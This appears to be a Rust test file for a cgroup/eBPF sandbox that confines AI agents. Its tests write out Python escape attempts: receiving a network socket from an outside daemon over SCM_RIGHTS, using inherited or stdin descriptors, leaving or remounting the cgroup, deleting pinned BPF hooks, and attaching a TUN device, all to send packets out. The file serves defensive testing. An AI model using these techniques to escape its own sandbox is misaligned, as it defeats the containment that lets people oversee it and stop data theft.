//! Sockets that were created outside the cgroup, and processes that leave it: no hook sees them. All hooks
//! are in force; the sandbox stops these attacks.

use std::io::{IoSlice, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::process::Stdio;

use nix::sys::socket::{ControlMessage, MsgFlags, sendmsg};

use super::attack_range::{AttackRange, fixture_without};
use crate::launch::launch;
use crate::support::process::run;

/// A Unix socket whose owner passes a network socket to any client, as a daemon of the user could.
struct Accomplice {
    _folder: tempfile::TempDir,
    path: String,
}

impl Accomplice {
    fn new(clients: usize) -> Self {
        let open = std::fs::Permissions::from_mode(0o755);
        let folder = tempfile::Builder::new().permissions(open).tempdir_in("/tmp").unwrap();
        let path = folder.path().join("daemon.sock");
        let listener = UnixListener::bind(&path).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
        listener.set_nonblocking(false).unwrap();
        std::thread::spawn(move || {
            for client in listener.incoming().take(clients) {
                let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
                let fds = [socket.as_raw_fd()];
                let rights = [ControlMessage::ScmRights(&fds)];
                let _ = sendmsg::<()>(
                    client.unwrap().as_raw_fd(),
                    &[IoSlice::new(b"x")],
                    &rights,
                    MsgFlags::empty(),
                    None,
                );
            }
        });
        Self { path: path.to_str().unwrap().to_owned(), _folder: folder }
    }
}

#[test]
fn socket_passed_from_outside_is_blocked() {
    let range = AttackRange::new();
    let accomplice = Accomplice::new(1);
    let attack = format!(
        "accomplice = socket.socket(socket.AF_UNIX)
sent(lambda: accomplice.connect('{}'))
accomplice.settimeout(2)
try:
    _, fds, _, _ = socket.recv_fds(accomplice, 1, 4)
    for fd in fds: sent(lambda: socket.socket(fileno=fd).sendto(mark, (there4, 9999)))
except OSError as error: print(error)",
        accomplice.path
    );
    range.assert_sandbox_alone_blocks(&attack);
}

#[test]
fn inherited_descriptor_is_closed() {
    let range = AttackRange::new();
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    nix::fcntl::fcntl(&socket, nix::fcntl::FcntlArg::F_SETFD(nix::fcntl::FdFlag::empty())).unwrap();
    let attack = format!(
        "sent(lambda: socket.socket(socket.AF_INET, UDP, 17, fileno={}).sendto(mark, (there4, 9999)))",
        socket.as_raw_fd()
    );
    range.assert_sandbox_alone_blocks(&attack);
}

#[test]
fn network_socket_as_stdin_is_refused() {
    let range = AttackRange::new();
    let attack =
        "sent(lambda: socket.socket(socket.AF_INET, UDP, 17, fileno=0).sendto(mark, (there4, 9999)))";
    let socket = || {
        let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
        Stdio::from(std::os::fd::OwnedFd::from(socket))
    };
    let words = range.python(attack);
    let outcome = run(launch(&[], &[]).args(&words).stdin(socket()));
    assert_eq!(outcome.code, Some(125), "{outcome:?}");
    assert!(range.packets().is_empty());
    let fixture = fixture_without(&[]);
    let join = "echo $$ > \"$0/cgroup.procs\" && exec \"$@\"";
    let mut bare = crate::support::process::command("/bin/sh");
    run(bare.args(["-c", join]).arg(&fixture.cgroup).args(&words).stdin(socket())).ok();
    assert!(!range.packets().is_empty(), "the attack does not bite");
}

/// The hooks follow the cgroup in which a socket was created: one created outside is seen by none.
#[test]
fn leaving_the_cgroup_is_blocked() {
    let range = AttackRange::new();
    let attack = r"
for line in open('/proc/self/mounts'):
    _, point, kind, *_ = line.split()
    if kind == 'cgroup2':
        try: open(point + '/cgroup.procs', 'w').write(str(os.getpid()))
        except OSError as error: print(error)
try:
    os.makedirs('/tmp/agentsecrets-hostile-cgroup', exist_ok=True)
    libc.mount(b'none', b'/tmp/agentsecrets-hostile-cgroup', b'cgroup2', 0, None)
    open('/tmp/agentsecrets-hostile-cgroup/cgroup.procs', 'w').write(str(os.getpid()))
except OSError as error: print(error)
libc.umount2(b'/tmp/agentsecrets-hostile-cgroup', 2)
sent(lambda: udp().sendto(mark, (there4, 9999)))";
    range.assert_sandbox_alone_blocks(attack);
    let _ = std::fs::remove_dir("/tmp/agentsecrets-hostile-cgroup");
}

/// Removing a pin detaches its hook: root can do it, and the sandbox has no bpffs.
#[test]
fn removing_pins_is_blocked() {
    let range = AttackRange::new();
    let attack = r"
import shutil
shutil.rmtree('/sys/fs/bpf/agentsecrets/PINS', ignore_errors=True)
time.sleep(0.1)
sent(lambda: udp().sendto(mark, (there4, 9999)))";
    let fixture = fixture_without(&[]);
    let pins = fixture.pins.file_name().unwrap().to_str().unwrap().to_owned();
    assert!(!range.attack_from(&fixture, &attack.replace("PINS", &pins)).is_empty(), "it does not bite");
    drop(fixture);
    // An agent does not know its run's name: it tries them all.
    let attack = attack.replace("/PINS", "");
    let hooked = fixture_without(&[]);
    assert!(range.attack_from_sandbox(&attack).is_empty());
    assert!(hooked.pins.join("as_egress").exists());
}

/// A TUN device owned by the agent's user injects packets as if they came from a wire.
#[test]
fn tun_device_of_agent_user_is_blocked() {
    let number = std::process::id() % 100_000;
    let device = format!("ast{number}");
    let ip = |words: &[&str]| run(crate::support::process::command("ip").args(words));
    ip(&["tuntap", "add", "dev", &device, "mode", "tun", "user", "65534"]).ok();
    let attack = format!(
        "import fcntl, struct
try:
    tunnel = open('/dev/net/tun', 'r+b', buffering=0)
    fcntl.ioctl(tunnel, 0x400454ca, struct.pack('16sH22x', b'{device}', 0x1001))
    print('attached')
except OSError as error: print('refused')"
    );
    let python = ["/usr/bin/python3", "-c", &attack];
    // Most systems let everybody open the device, since the tunnel's owner is what counts.
    let node = "/dev/net/tun";
    let before = std::fs::metadata(node).unwrap().permissions();
    std::fs::set_permissions(node, std::fs::Permissions::from_mode(0o666)).unwrap();
    let inside = run(&mut launch(&[], &python));
    let mut bare = crate::support::process::command("setpriv");
    let outside = run(bare.args(["--reuid", "65534", "--clear-groups", "--no-new-privs"]).args(python));
    std::fs::set_permissions(node, before).unwrap();
    ip(&["link", "delete", &device]).ok();
    assert_eq!(inside.stdout.trim(), "refused", "{inside:?}");
    assert_eq!(outside.stdout.trim(), "attached", "{outside:?}");
}

/// Bytes piped to standard input still arrive: a way in, not out.
#[test]
fn piped_stdin_still_works() {
    let mut child = launch(&[], &["cat"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"through").unwrap();
    assert_eq!(child.wait_with_output().unwrap().stdout, b"through");
}
